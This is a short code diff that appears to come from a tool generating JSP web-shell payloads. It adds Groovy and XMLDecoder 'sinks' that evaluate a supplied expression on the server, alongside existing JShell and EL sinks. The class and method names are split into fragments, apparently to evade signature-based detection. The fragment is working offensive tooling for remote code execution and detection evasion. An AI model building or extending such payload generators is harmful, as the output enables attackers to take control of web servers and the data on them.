@@ -166,6 +166,21 @@ SINKS: dict[str, tuple[str, Sink]] = {
         "jsp.script-engine",
         lambda e: ([], [f"jdk.jshell.{t('JSh', 'ell')}.create().{t('ev', 'al')}({e}).forEach(out::print);"]),
     ),
+    "groovy": (
+        "jsp.script-engine",
+        lambda e: ([], [f"out.print(new groovy.lang.{t('Groovy', 'Shell')}().{t('evalu', 'ate')}({e}));"]),
+    ),
+    "xmldecoder": (
+        "jsp.script-engine",
+        lambda e: (
+            [],
+            [
+                f"java.beans.{t('XML', 'Decoder')} d = new java.beans.{t('XML', 'Decoder')}("
+                f"new java.io.ByteArrayInputStream(({e}).getBytes()));",
+                f"out.print(d.{t('read', 'Object')}());",
+            ],
+        ),
+    ),
     "el-processor": (
         "jsp.script-engine",
         lambda e: ([], [f"out.print(new jakarta.el.{t('ELPro', 'cessor')}().{t('ev', 'al')}({e}));"]),
